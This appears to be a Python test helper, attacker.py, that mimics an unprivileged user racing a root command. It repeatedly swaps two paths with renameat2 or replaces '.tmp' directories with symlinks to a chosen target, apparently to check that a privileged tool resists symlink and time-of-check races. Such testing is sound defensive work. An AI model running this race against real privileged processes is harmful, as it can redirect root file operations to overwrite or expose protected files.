"""Swaps names as fast as possible, as another user would while a command of root works there.

    attacker.py UID DIRECTORY exchange ONE OTHER     exchanges two names, over and over
    attacker.py UID DIRECTORY replace TARGET         puts a link to TARGET in the place of each
                                                     directory that has a temporary name

It goes to the directory as root, because the directories above it let no other user pass, and
gives up its rights then. It prints a line when it has begun, and goes on until it is killed.
"""

from __future__ import annotations

import ctypes
import itertools
import os
import sys
import time
from typing import Any

AT_FDCWD = -100
RENAME_EXCHANGE = 2

# Long enough for one step of the command to happen in between, and short enough to hit any.
PAUSES = (0.0, 0.00002, 0.0001, 0.0005)


def exchange(one: str, other: str) -> None:
    """Exchanges two names for ever."""
    renameat2: Any = ctypes.CDLL(None, use_errno=True).renameat2
    names = os.fsencode(one), os.fsencode(other)
    for pause in itertools.cycle(PAUSES):
        if renameat2(AT_FDCWD, names[0], AT_FDCWD, names[1], RENAME_EXCHANGE) != 0:
            # The command has moved one of them, or the kernel is older.
            time.sleep(0.001)
        time.sleep(pause)


def replace(target: str) -> None:
    """Moves each directory with a temporary name away, and leaves a link in its place."""
    for number in itertools.count():
        for name in os.listdir("."):
            if name.endswith(".tmp") and not os.path.islink(name):
                try:
                    os.rename(name, f"moved-{number}")
                    os.symlink(target, name)
                except OSError:
                    continue


def main() -> None:
    """Becomes the user, and begins."""
    user, directory, what, *arguments = sys.argv[1:]
    os.chdir(directory)
    os.setgroups([])
    os.setgid(int(user))
    os.setuid(int(user))
    print("begun", flush=True)
    if what == "exchange":
        exchange(*arguments)
    else:
        replace(*arguments)


if __name__ == "__main__":
    main()
